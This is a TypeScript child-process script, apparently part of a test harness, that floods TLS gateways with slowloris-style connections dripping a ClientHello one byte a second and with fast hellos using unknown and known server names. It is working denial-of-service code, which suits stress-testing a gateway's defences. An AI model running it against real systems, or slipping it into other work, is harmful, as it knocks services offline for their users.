import { once } from "node:events";
import { connect, createServer, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";

/** Told to a process that means harm to gateways. */
export type ToFlood =
  | {
      readonly t: "begin";
      /** `host:port` of each. */
      readonly gateways: readonly string[];
      /** Connections to each that send a hello one byte a second. */
      readonly loris: number;
      /** Whole hellos a second to each: names that it does not know, and names that it does, in turn. */
      readonly perSecond: number;
      readonly knownName: string;
    }
  | { readonly t: "stop" };

export type FromFlood = { readonly t: "begun" };

process.on("message", (message: ToFlood) => {
  if (message.t === "begin") void begin(message);
  else process.exit(0);
});
process.on("disconnect", () => process.exit(0));

async function begin(how: Extract<ToFlood, { t: "begin" }>): Promise<void> {
  const known = await helloFor(how.knownName);
  const hellos = [await helloFor("nobody.example.com"), known];
  for (const gateway of how.gateways) {
    for (let count = 0; count < how.loris; count += 1) drip(gateway, known);
    let turn = 0;
    setInterval(() => {
      const hello = hellos[turn % hellos.length];
      turn += 1;
      if (hello !== undefined) dial(gateway).write(hello);
    }, 1000 / how.perSecond);
  }
  process.send?.({ t: "begun" } satisfies FromFlood);
}

/** What a TLS client says first. */
async function helloFor(servername: string): Promise<Buffer> {
  const server = createServer().listen(0, "127.0.0.1");
  await once(server, "listening");
  const address = server.address();
  const port = typeof address === "object" && address !== null ? address.port : 0;
  const accepted = once(server, "connection") as Promise<[Socket]>;
  const client = connectTls({ port, host: "127.0.0.1", servername });
  client.on("error", () => undefined);
  const [socket] = await accepted;
  const [hello] = (await once(socket, "data")) as [Buffer];
  client.destroy();
  socket.destroy();
  server.close();
  return hello;
}

/** Begins anew when it is closed. */
function drip(gateway: string, hello: Buffer): void {
  const socket = dial(gateway);
  let sent = 0;
  const timer = setInterval(() => {
    socket.write(hello.subarray(sent, sent + 1));
    sent += 1;
  }, 1000);
  socket.on("close", () => {
    clearInterval(timer);
    setTimeout(() => drip(gateway, hello), 100);
  });
}

const lifeMs = 10_000;

function dial(gateway: string): Socket {
  const [host = "", port = "0"] = gateway.split(":");
  const socket = connect(Number(port), host);
  socket.on("error", () => undefined);
  socket.resume();
  // Left open: whoever floods does not say goodbye.
  setTimeout(() => socket.destroy(), lifeMs);
  return socket;
}
